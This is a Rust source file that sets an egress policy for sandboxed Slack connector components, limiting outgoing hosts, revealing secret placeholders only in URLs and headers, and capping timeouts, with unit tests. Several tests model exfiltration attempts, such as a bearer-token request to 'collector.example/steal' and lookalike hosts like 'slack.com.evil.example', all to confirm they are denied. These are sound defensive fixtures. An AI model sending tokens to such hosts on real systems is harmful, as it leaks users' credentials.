//! The egress policy: which hosts a component may call, and the one place where secret
//! placeholders become real values (URL and headers only, never the body).

use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;

use http_body_util::BodyExt;
use wasmtime_wasi_http::{Error as HttpError, RequestOptions, WasiBody, WasiHttpHooks};

use super::http_client::{HttpClient, Timeouts};
use super::limits::{Limits, Stop, Tripwire};
use crate::secrets::Vault;

/// Hosts every Slack connector may reach.
const SLACK_HOSTS: [&str; 2] = ["slack.com", "hooks.slack.com"];

/// The hosts components may call.
#[derive(Debug, Clone)]
pub struct EgressPolicy {
    allowed: BTreeSet<String>,
}

impl EgressPolicy {
    /// Slack's hosts plus the host of each extra URL (e.g. `SLACK_API_URL`).
    pub fn slack_and(extra_urls: &[String]) -> Self {
        let mut allowed: BTreeSet<String> = SLACK_HOSTS.iter().map(|h| (*h).to_owned()).collect();
        allowed.extend(extra_urls.iter().filter_map(|url| host_of(url)));
        Self { allowed }
    }

    /// Whether requests to `host` are allowed.
    pub fn allows(&self, host: &str) -> bool {
        self.allowed.contains(&host.to_ascii_lowercase())
    }

    /// The allowed hosts, for error messages.
    pub fn allowed(&self) -> impl Iterator<Item = &str> {
        self.allowed.iter().map(String::as_str)
    }
}

/// The host part of a URL, lower-cased, without port or brackets.
fn host_of(url: &str) -> Option<String> {
    let uri: http::Uri = url.parse().ok()?;
    let host = uri.host()?.trim_start_matches('[').trim_end_matches(']');
    Some(host.to_ascii_lowercase())
}

/// The `wasi:http` hooks of one step: enforce the policy and the timeouts, reveal secrets,
/// record what stopped a request.
pub struct EgressHooks {
    policy: Arc<EgressPolicy>,
    vault: Vault,
    tripwire: Tripwire,
    limits: Limits,
    client: HttpClient,
}

impl EgressHooks {
    /// Hooks enforcing `policy` and `limits`' timeouts, revealing `vault`'s secrets, sending
    /// through `client`, recording a denied host or a timeout in `tripwire`.
    pub fn new(policy: Arc<EgressPolicy>, vault: Vault, tripwire: Tripwire, limits: Limits, client: HttpClient) -> Self {
        Self { policy, vault, tripwire, limits, client }
    }

    /// The component's timeouts, none longer than the host's. (Connecting is held to the
    /// host's limit by the shared client.)
    fn timeouts(&self, asked: Option<RequestOptions>) -> Timeouts {
        let asked = asked.unwrap_or_default();
        let capped = |asked: Option<Duration>, limit: Duration| asked.map_or(limit, |a| a.min(limit));
        Timeouts {
            first_byte: capped(asked.first_byte_timeout, self.limits.first_byte),
            between_bytes: capped(asked.between_bytes_timeout, self.limits.between_bytes),
        }
    }

    /// Checks the destination and swaps placeholders in the URL and header values.
    fn prepare(&self, request: &mut http::Request<WasiBody>) -> Result<(), HttpError> {
        // A secret can be a whole URL (an incoming webhook): the component could only put its
        // placeholder where the host goes, so the secret replaces the whole URL.
        if let Some(url) = request.uri().host().and_then(|host| self.vault.reveal_exact(host)) {
            let uri: http::Uri = url.parse().map_err(|_| HttpError::HttpRequestUriInvalid)?;
            let authority = uri.authority().ok_or(HttpError::HttpRequestUriInvalid)?.as_str();
            let host_header = authority.parse().map_err(|_| HttpError::HttpRequestUriInvalid)?;
            request.headers_mut().insert(http::header::HOST, host_header);
            *request.uri_mut() = uri;
        }
        let host = request.uri().host().unwrap_or_default().trim_start_matches('[').trim_end_matches(']').to_owned();
        if !self.policy.allows(&host) {
            tracing::warn!(%host, "outgoing request denied by the egress policy");
            self.tripwire.trip(Stop::Egress { host });
            return Err(HttpError::HttpRequestDenied);
        }
        let uri = request.uri().to_string();
        let revealed = self.vault.reveal(&uri);
        if revealed != uri {
            *request.uri_mut() = revealed.parse().map_err(|_| HttpError::HttpRequestUriInvalid)?;
        }
        for value in request.headers_mut().values_mut() {
            let Ok(text) = value.to_str() else { continue };
            let revealed = self.vault.reveal(text);
            if revealed != text {
                *value = revealed.parse().map_err(|_| HttpError::HttpRequestDenied)?;
                value.set_sensitive(true);
            }
        }
        Ok(())
    }
}

impl WasiHttpHooks for EgressHooks {
    fn send_request(
        &mut self,
        mut request: http::Request<WasiBody>,
        options: Option<RequestOptions>,
        fut: Box<dyn Future<Output = Result<(), HttpError>> + Send>,
    ) -> Box<
        dyn Future<
                Output = Result<
                    (http::Response<WasiBody>, Box<dyn Future<Output = Result<(), HttpError>> + Send>),
                    HttpError,
                >,
            > + Send,
    > {
        // Logged as the component wrote it: placeholders, never the secrets swapped in; and
        // formatted only when someone reads it.
        let shown = tracing::enabled!(tracing::Level::DEBUG).then(|| format!("{} {}", request.method(), request.uri()));
        if let Err(err) = self.prepare(&mut request) {
            return Box::new(async move { Err(err) });
        }
        if let Some(shown) = shown {
            tracing::debug!(request = %shown, "outgoing request");
        }
        let _ = fut;
        let timeouts = self.timeouts(options);
        let connect = self.limits.connect;
        let host = request.uri().authority().map(ToString::to_string).unwrap_or_default();
        let tripwire = self.tripwire.clone();
        let timed_out = move |phase: &'static str, after: Duration| {
            tripwire.trip(Stop::Timeout { phase, host: host.clone(), after });
        };
        let client = self.client.clone();
        Box::new(async move {
            let response = client.send(request, timeouts).await.inspect_err(|err| match err {
                HttpError::ConnectionTimeout => timed_out("connect", connect),
                HttpError::ConnectionReadTimeout => timed_out("first byte", timeouts.first_byte),
                _ => {}
            })?;
            let response = response.map(move |body| {
                body.map_err(move |err| {
                    if matches!(err, HttpError::ConnectionReadTimeout) {
                        timed_out("between bytes", timeouts.between_bytes);
                    }
                    err
                })
                .boxed_unsync()
            });
            // The pool drives its connections; there is no per-request I/O to await.
            let io = Box::new(std::future::ready(Ok(()))) as Box<dyn Future<Output = Result<(), HttpError>> + Send>;
            Ok((response, io))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    use bytes::Bytes;
    use http_body_util::Full;

    fn hooks(vault: &Vault) -> (EgressHooks, Tripwire) {
        let policy = Arc::new(EgressPolicy::slack_and(&["http://127.0.0.1:9/api/".to_owned()]));
        let tripwire = Tripwire::default();
        let client = HttpClient::new(Limits::default().connect);
        (EgressHooks::new(policy, vault.clone(), tripwire.clone(), Limits::default(), client), tripwire)
    }

    fn denied_host(tripwire: &Tripwire) -> Option<String> {
        match tripwire.take() {
            Some(Stop::Egress { host }) => Some(host),
            _ => None,
        }
    }

    fn request(url: &str, authorization: &str, body: &str) -> http::Request<WasiBody> {
        let body = Full::new(Bytes::from(body.to_owned())).map_err(|never| match never {}).boxed_unsync();
        http::Request::post(url).header("authorization", authorization).body(body).unwrap()
    }

    #[tokio::test]
    async fn secrets_are_revealed_in_url_and_headers_but_never_in_the_body() {
        let vault = Vault::with_values(HashMap::from([("TOKEN".to_owned(), "xoxb-real".to_owned())]));
        let placeholder = vault.conceal("{{secrets.TOKEN}}").unwrap();
        let (hooks, denied) = hooks(&vault);
        let url = format!("http://127.0.0.1:9/api/chat.postMessage?t={placeholder}");
        let mut req = request(&url, &format!("Bearer {placeholder}"), &format!("{{\"text\":\"{placeholder}\"}}"));
        hooks.prepare(&mut req).unwrap();
        assert_eq!(req.uri().query(), Some("t=xoxb-real"));
        assert_eq!(req.headers()["authorization"], "Bearer xoxb-real");
        assert!(req.headers()["authorization"].is_sensitive());
        let body = req.into_body().collect().await.unwrap().to_bytes();
        assert_eq!(body, format!("{{\"text\":\"{placeholder}\"}}").as_bytes());
        assert!(denied_host(&denied).is_none());
    }

    #[test]
    fn a_secret_that_is_a_whole_url_replaces_the_url_and_is_checked_like_any_destination() {
        let vault = Vault::with_values(HashMap::from([
            ("HOOK".to_owned(), "http://127.0.0.1:9/services/T1/B2/abc".to_owned()),
            ("BAD_HOOK".to_owned(), "https://collector.example/services/x".to_owned()),
        ]));
        let (hooks, denied) = hooks(&vault);
        let hook = vault.conceal("{{secrets.HOOK}}").unwrap();
        let mut req = request(&format!("https://{hook}/"), "x", "{}");
        hooks.prepare(&mut req).unwrap();
        assert_eq!(req.uri().to_string(), "http://127.0.0.1:9/services/T1/B2/abc");
        assert_eq!(req.headers()["host"], "127.0.0.1:9");

        let bad = vault.conceal("{{secrets.BAD_HOOK}}").unwrap();
        let mut req = request(&format!("https://{bad}/"), "x", "{}");
        assert!(matches!(hooks.prepare(&mut req), Err(HttpError::HttpRequestDenied)));
        assert_eq!(denied_host(&denied).as_deref(), Some("collector.example"));
    }

    #[test]
    fn other_hosts_are_denied_and_recorded_without_revealing_anything() {
        let vault = Vault::with_values(HashMap::from([("TOKEN".to_owned(), "xoxb-real".to_owned())]));
        let placeholder = vault.conceal("{{secrets.TOKEN}}").unwrap();
        let (hooks, denied) = hooks(&vault);
        let mut req = request("https://collector.example/steal", &format!("Bearer {placeholder}"), "");
        assert!(matches!(hooks.prepare(&mut req), Err(HttpError::HttpRequestDenied)));
        assert_eq!(denied_host(&denied).as_deref(), Some("collector.example"));
        assert_eq!(req.headers()["authorization"], format!("Bearer {placeholder}").as_str());
    }

    #[test]
    fn the_component_may_shorten_the_timeouts_but_not_lengthen_them() {
        let (hooks, _) = hooks(&Vault::with_values(HashMap::new()));
        let asked = RequestOptions {
            connect_timeout: Some(Duration::from_secs(1)),
            first_byte_timeout: Some(Duration::from_secs(3600)),
            between_bytes_timeout: None,
        };
        let limits = Limits::default();
        let timeouts = hooks.timeouts(Some(asked));
        assert_eq!((timeouts.first_byte, timeouts.between_bytes), (limits.first_byte, limits.between_bytes));
        let shorter = RequestOptions { first_byte_timeout: Some(Duration::from_secs(2)), ..asked };
        assert_eq!(hooks.timeouts(Some(shorter)).first_byte, Duration::from_secs(2));
    }

    #[test]
    fn slack_hosts_and_the_api_url_host_are_allowed() {
        let policy = EgressPolicy::slack_and(&["http://127.0.0.1:4321/api/".to_owned()]);
        assert!(policy.allows("slack.com"));
        assert!(policy.allows("hooks.slack.com"));
        assert!(policy.allows("127.0.0.1"));
        assert!(!policy.allows("evil.example"));
        assert!(!policy.allows("slack.com.evil.example"));
    }
}
